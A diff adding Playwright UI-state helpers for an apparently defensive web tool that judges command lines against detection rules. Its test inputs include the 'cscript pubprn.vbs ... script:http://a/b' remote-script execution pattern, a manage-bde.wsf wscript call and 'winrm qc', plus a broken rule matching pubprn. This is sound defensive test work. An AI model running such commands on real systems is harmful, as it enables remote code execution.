@@ -1,3 +1,114 @@
 // The states of the page that pictures are taken of, and that are checked for accessibility. Each
 // starts from the freshly opened page; `reach` does what a person would do to get there.
-export const states = [{ name: 'start', reach: async () => {} }];
+
+/** Puts a text into the editor, as pasting does, and waits for its verdicts. */
+export async function paste(page, text) {
+  await pane(page, 'Events');
+  await page.getByLabel('Events: command lines or log records').fill(text);
+  await page.getByTestId('headline').waitFor({ state: 'attached' });
+}
+
+/** Brings a pane to the front where only one is shown at a time. */
+export async function pane(page, name) {
+  const button = page.getByRole('group', { name: 'Pane' }).getByRole('button', { name });
+  if (await button.isVisible()) await button.click();
+}
+
+/** Loads a sample from the welcome. */
+export async function sample(page, title) {
+  await pane(page, 'Events');
+  await page.getByRole('list', { name: 'Samples' }).getByRole('button', { name: title }).click();
+  await page.getByTestId('headline').waitFor({ state: 'attached' });
+}
+
+/** Selects the first event of the list whose text has this in it. */
+export async function choose(page, text) {
+  await pane(page, 'Verdicts');
+  await page.getByRole('listbox', { name: 'Events' }).getByRole('option').filter({ hasText: text }).first().click();
+}
+
+export async function openRules(page) {
+  await page.getByRole('navigation', { name: 'Views' }).getByRole('link', { name: 'Rules' }).click();
+}
+
+const brokenRule = `title: Broken
+logsource:
+  product: windows
+  category: process_creation
+detection:
+  selection:
+    CommandLine|conatins: 'pubprn'
+  condition: selection and not filter
+`;
+
+export const states = [
+  { name: 'start', reach: async () => {} },
+  { name: 'sample', reach: (page) => sample(page, 'First look') },
+  {
+    name: 'match',
+    reach: async (page) => {
+      await sample(page, 'First look');
+      await choose(page, 'pubprn.vbs');
+    },
+  },
+  {
+    name: 'cannot-tell',
+    reach: async (page) => {
+      await paste(page, 'wscript.exe "C:\\Temp\\manage-bde.wsf" -status\nwinrm qc -format:pretty\n');
+      await choose(page, 'winrm');
+    },
+  },
+  {
+    name: 'children',
+    reach: async (page) => {
+      await sample(page, 'Nested and encoded');
+      await pane(page, 'Verdicts');
+    },
+  },
+  { name: 'records', reach: (page) => sample(page, 'Event log export') },
+  {
+    name: 'diagnostics',
+    reach: async (page) => {
+      await paste(page, '{"CommandLine":"cscript pubprn.vbs x script:http://a/b"}\n{"CommandLine": oops}\n{"Image":"C:\\\\x.exe"}\n');
+      await pane(page, 'Events');
+    },
+  },
+  {
+    name: 'long-line',
+    reach: async (page) => {
+      await paste(page, `cscript C:\\Windows\\pubprn.vbs ${'A'.repeat(20000)} script:http://a/b ${'B'.repeat(20000)}`);
+      await choose(page, 'pubprn');
+    },
+  },
+  {
+    name: 'rules',
+    reach: async (page) => {
+      await openRules(page);
+      await page.getByRole('switch').first().waitFor();
+    },
+  },
+  {
+    name: 'rule',
+    reach: async (page) => {
+      await openRules(page);
+      await page.getByRole('link', { name: /CL_Mutexverifiers/i }).click();
+      await page.getByRole('region', { name: 'Text of the rule' }).waitFor();
+    },
+  },
+  {
+    name: 'own-rule-broken',
+    reach: async (page) => {
+      await openRules(page);
+      await page.getByRole('button', { name: 'New rule' }).click();
+      await page.getByLabel('Text of your rule').fill(brokenRule);
+      await page.getByRole('region', { name: 'Problems in the rule' }).waitFor();
+    },
+  },
+  {
+    name: 'about',
+    reach: async (page) => {
+      await page.getByRole('button', { name: 'About' }).click();
+      await page.getByRole('dialog').waitFor();
+    },
+  },
+];
